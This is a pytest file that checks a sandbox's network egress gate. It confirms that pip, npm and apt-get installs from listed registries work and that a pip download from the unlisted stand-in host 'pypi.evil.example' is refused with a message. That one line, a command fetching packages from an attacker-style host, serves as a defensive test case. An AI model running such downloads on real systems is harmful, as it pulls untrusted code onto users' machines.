"""Packages from the public registries are installed through the gate process, in both kinds of sandbox."""

import os
import signal
import uuid
from collections.abc import AsyncIterator

import pytest

from paca.common.network_policy import PRESETS, EgressPolicy, Network
from paca.sandbox.base import SandboxSpec
from paca.sandbox.egress.booking import read_lines
from paca.sandbox.egress.gates import Gates
from tests.sandbox.conftest import PARAMETERS, SandboxHandle
from tests.sandbox.egress.test_gates import pid_of

# They install from registries, which the other tiers do without.
pytestmark = [
    pytest.mark.anyio,
    pytest.mark.service,
    pytest.mark.docker,
    pytest.mark.timeout(600),
]
HOSTS = tuple(host for name in ("python", "npm", "debian") for host in PRESETS[name])
# A machine of tests may reach the registries by a mirror in its own network.
PRIVATE = tuple(f"{host}:{port}" for host in HOSTS for port in (80, 443))
POLICY = EgressPolicy(Network.RESTRICTED, HOSTS, private=PRIVATE)
PIP = "python3 -m venv v && v/bin/pip install -q iniconfig && v/bin/python -c 'import iniconfig; print(\"fine\")'"
NPM = 'npm install --silent --no-audit --no-fund left-pad && node -e \'require("left-pad"); console.log("fine")\''
# Not as root, so with folders of its own, and unpacked in place of installed.
APT = f"""mkdir -p apt/lists/partial apt/archives/partial apt/state && touch apt/state/status
cat > apt/conf <<'E'
Dir::Etc::SourceList "/workspace/apt/sources.list"; Dir::Etc::SourceParts "/dev/null";
Dir::State "/workspace/apt/state"; Dir::State::Status "/workspace/apt/state/status";
Dir::State::Lists "/workspace/apt/lists"; Dir::Cache "/workspace/apt"; Dir::Log "/workspace/apt";
Dir::Etc::Trusted "/usr/share/keyrings/debian-archive-keyring.gpg"; Dir::Etc::TrustedParts "/dev/null";
Acquire::Languages "none"; Debug::NoLocking "true";
E
echo "deb http://{PRESETS["debian"][0]}/debian bookworm main" > apt/sources.list
export APT_CONFIG=/workspace/apt/conf
apt-get update -q && apt-get download -q hello && dpkg -x hello_*.deb root && root/usr/bin/hello -g fine"""


@pytest.fixture
async def installing(backend, tmp_path, anyio_backend) -> AsyncIterator[SandboxHandle]:
    gates = Gates(tmp_path, "tests")
    conversation_id = uuid.uuid4()
    gate = await gates.open(conversation_id, POLICY)
    spec = SandboxSpec(conversation_id, egress=POLICY, gate=gate)
    sandbox = await backend.open(spec, epoch=1)
    yield SandboxHandle(sandbox, spec)
    await sandbox.end(keep_files=False)
    if pid := pid_of(gates.root):
        os.kill(pid, signal.SIGKILL)


def reached(handle: SandboxHandle) -> set[str]:
    assert handle.spec.gate is not None
    lines, _ = read_lines(handle.spec.gate.parent / "booked.jsonl", 0)
    return {line.host for line in lines if not line.reason}


@pytest.mark.parametrize("backend", PARAMETERS, indirect=True)
@pytest.mark.parametrize(
    ("program", "line", "preset"),
    [("pip", PIP, "python"), ("npm", NPM, "npm"), ("apt-get", APT, "debian")],
)
async def test_packages_are_installed(installing, program, line, preset):
    if (await installing.bash(f"command -v {program}")).exit_code != 0:
        return  # it is not on this machine or not in the image
    found = await installing.bash(line, seconds=300)
    assert found.output.split()[-1:] == ["fine"], found.output
    assert found.refused == ()
    assert PRESETS[preset][0] in reached(installing)


@pytest.mark.parametrize("backend", PARAMETERS, indirect=True)
async def test_a_package_of_a_host_that_is_not_listed_is_refused_in_words(installing):
    line = "pip download -q --no-deps --index-url https://pypi.evil.example/simple x"
    found = await installing.bash(line, seconds=120)
    assert found.exit_code != 0
    assert found.refused[0].startswith("pypi.evil.example is not on the list of hosts")
